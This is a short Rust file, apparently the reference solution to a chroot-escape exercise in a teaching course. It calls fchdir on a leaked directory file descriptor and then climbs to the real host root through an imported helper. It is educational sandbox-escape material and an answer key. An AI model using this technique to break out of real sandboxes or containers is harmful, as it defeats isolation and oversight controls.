//! Exercise 1, reference solution: escape through a leaked directory fd.

use std::os::fd::BorrowedFd;

use ch01_chroot::escape::climb_to_real_root;
use nix::errno::Errno;
use nix::unistd::fchdir;

/// Use the leaked directory `fd` to leave the chroot.
pub fn escape_through_leaked_fd(fd: BorrowedFd<'_>) -> Result<(), Errno> {
    // The fd names a host directory outside our root: make it our current
    // directory. No chroot of our own is needed to get "outside" — the
    // careless engine already handed us a way out.
    fchdir(fd)?;
    // From there, climb to the real root exactly as the escape demo does.
    climb_to_real_root().map_err(|(_step, errno)| errno)
}
